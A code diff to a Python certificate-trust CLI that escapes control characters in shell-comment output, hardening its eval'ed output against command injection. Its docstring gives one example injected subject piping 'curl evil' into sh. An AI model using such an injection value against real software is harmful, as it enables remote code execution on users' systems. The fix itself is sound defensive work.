@@ -66,8 +66,19 @@ def trust_command(notary_dir: Path, server: str | None, root_file: Path | None, 
                    err=True)
 
 
+def shell_comment(text: str) -> str:
+    """``text`` made safe inside a ``#`` comment of eval'ed output: a comment ends only at a newline,
+    so every control character (newline, CR, ...) is written as a visible escape (``\\n``, ``\\x1b``).
+
+    A root certificate's subject, a file name or a host come from outside: a subject
+    "CN=x<newline>curl evil | sh" would otherwise become a command of `eval "$(certkit trust)"`.
+    """
+    return "".join(ch if ch.isprintable() or ch == " " else ch.encode("unicode_escape").decode("ascii") for ch in text)
+
+
 def _as_text(result: TrustResult) -> str:
-    # Every line but the exports is a shell comment, so `eval "$(certkit trust)"` works.
+    # Every line but the exports is a shell comment, so `eval "$(certkit trust)"` works; the
+    # exports' values are shlex-quoted (certkit.trust) and the comments escaped (shell_comment).
     lines = [
         f"# root CA {result.root_subject} (until {result.root_not_after:%Y-%m-%d}) from {result.root}",
         f"# docker: {result.docker_ca.path} ({result.docker_ca.action})",
@@ -81,6 +92,7 @@ def _as_text(result: TrustResult) -> str:
         lines.append(f"# {result.server.host} does not resolve; add this line to /etc/hosts "
                      "(or run `certkit trust --hosts` as root):")
         lines.append(f"#   {result.hosts_line}")
+    lines = [shell_comment(line) for line in lines]
     lines.extend(result.exports)
     return "\n".join(lines)
 
